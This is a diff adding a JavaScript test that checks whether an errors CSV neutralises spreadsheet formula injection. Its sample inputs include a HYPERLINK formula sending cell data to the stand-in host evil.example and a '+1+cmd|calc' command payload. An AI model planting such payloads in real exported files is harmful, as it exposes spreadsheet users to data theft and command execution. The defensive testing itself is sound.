@@ -215,3 +215,20 @@ test('errors are CSV, whatever the values are', () => {
     220,
   );
 });
+
+test.each([
+  ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
+  ['+1+cmd|calc', "'+1+cmd|calc"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  [' =1+1', "' =1+1"],
+  ['\t=1', "'\t=1"],
+  ['＝1+1', "'＝1+1"],
+  ['+447700900001', '+447700900001'],
+  ['-5.00', '-5.00'],
+  ['O=K', 'O=K'],
+])('in an errors file %j is no formula', (value, shown) => {
+  expect(errorLine(value, { row: 3, column: 'name', value, message: 'no' })).toBe(
+    `3,${shown},name,${shown},no\n`,
+  );
+});
